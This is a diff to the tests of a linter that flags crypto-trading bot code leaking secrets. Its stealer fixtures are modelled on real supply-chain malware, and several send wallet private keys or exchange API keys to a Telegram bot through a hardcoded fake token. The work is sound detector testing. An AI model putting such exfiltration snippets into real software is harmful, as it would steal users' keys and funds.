@@ -13,6 +13,10 @@ from botlint.engine import lint_source
 from helpers import settings
 
 
+# a Telegram bot token of the right shape, made here (fake): the author's chat written in the code
+TOKEN = f"{7000000000 + 4242}:AA{'Fq7x' * 8}"
+
+
 def found(src, path="pkg/wallet.py"):
     return sorted((f.location.line, f.code) for f in lint_source(src.encode(), path, settings(["BOT5"])))
 
@@ -42,7 +46,7 @@ STEALERS = {
     "wallet_key_hex_to_telegram": (
         'import requests\n'
         'def hook(wallet):\n'
-        '    requests.post("https://api.telegram.org/bot1:x/sendMessage", data={"text": wallet.key.hex()})\n',
+        f'    requests.post("https://api.telegram.org/bot{TOKEN}/sendMessage", data={{"text": wallet.key.hex()}})\n',
         [(3, "BOT504")]),
     # @solana/web3.js 1.95.6 addToQueue (2024-12): the key passed to a helper that hides it in a header
     "passed_to_helper_header": (
@@ -62,11 +66,11 @@ STEALERS = {
         '    _beacon("b", {"pw": password})\n', [(4, "BOT504")]),
     # aiocpa (ReversingLabs, 2024-11): exchange secrets to a Telegram chat
     "exchange_secrets_to_telegram": (
-        'import json, requests\n'
+        f'import json, requests\nBOT = "{TOKEN}"\n'
         'def activate(cfg):\n'
         '    keys = {n: {"apiKey": c["apiKey"], "secret": c["secret"]} for n, c in cfg["exchanges"].items()}\n'
-        '    requests.post("https://api.telegram.org/bot1:x/sendMessage", data={"text": json.dumps(keys)})\n',
-        [(4, "BOT504")]),
+        '    requests.post(f"https://api.telegram.org/bot{BOT}/sendMessage", data={"text": json.dumps(keys)})\n',
+        [(5, "BOT504")]),
     # CryptoAITools (Checkmarx, 2024-10): a module-level list of wallet directories
     "wallet_dir_list_to_file_host": (
         'import os, requests\nfrom pathlib import Path\n'
@@ -165,6 +169,17 @@ CLEAN = {
         'def on_fill(order):\n'
         '    text = f"filled {order[\'id\']} at {order[\'price\']}"\n'
         '    requests.post(f"https://api.telegram.org/bot{os.environ[\'TG\']}/sendMessage", data={"text": text})\n'),
+    # a careless bot, not a stealer (BOT2's leak): the user's own chat, from the user's config
+    "secret_replied_to_owner": (
+        'import json\nCFG = json.load(open("config.json"))\n'
+        'async def debug(update, context):\n'
+        '    bybit = CFG["bybit"]\n'
+        '    await update.message.reply_text(f"key {bybit[\'api_key\']} / {bybit[\'api_secret\']}")\n'),
+    "secret_to_configured_chat": (
+        'import os, requests\n'
+        'def boot(cfg):\n'
+        '    t = os.environ["TG_TOKEN"]\n'
+        '    requests.post(f"https://api.telegram.org/bot{t}/sendMessage", data={"text": cfg["secret"]})\n'),
     "login_client_password": (
         'import requests\n'
         'def _post(path, payload):\n'
